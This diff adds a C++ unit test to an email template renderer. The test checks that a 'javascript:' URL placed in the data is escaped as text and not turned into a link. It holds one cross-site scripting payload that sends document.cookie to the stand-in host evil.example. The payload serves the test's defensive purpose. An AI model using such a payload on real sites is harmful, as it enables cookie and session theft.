@@ -198,6 +198,22 @@ TEST_CASE("the HTML body escapes what the data carries", "[templates]") {
   CHECK(html.find("Centre d&apos;accueil &amp; d&apos;orientation") != std::string::npos);
 }
 
+TEST_CASE("a javascript: URL in the data does not become a link", "[templates][links]") {
+  // Found from outside: data.url = "javascript:…" landed in both of the email's hrefs.
+  const auto templates = TemplateSet::load(kDefaults);
+  for (const auto& event : kEvents) {
+    INFO(event);
+    json vars = vars_with("url", "javascript:fetch('//evil.example/'+document.cookie)");
+    const auto html = templates->render_html(event, vars);
+    CHECK(html.find("href=\"javascript") == std::string::npos);
+    CHECK(html.find("javascript:fetch(&apos;//evil.example/&apos;+document.cookie)") !=
+          std::string::npos);  // shown as text
+    vars = vars_with("url", "https://www.rdv-solidarites.fr/r/4521");
+    CHECK(templates->render_html(event, vars)
+              .find("href=\"https://www.rdv-solidarites.fr/r/4521\"") != std::string::npos);
+  }
+}
+
 TEST_CASE("a subject never carries CR/LF, whatever the data", "[templates]") {
   const auto templates = TemplateSet::load(kDefaults);
   const auto subject =
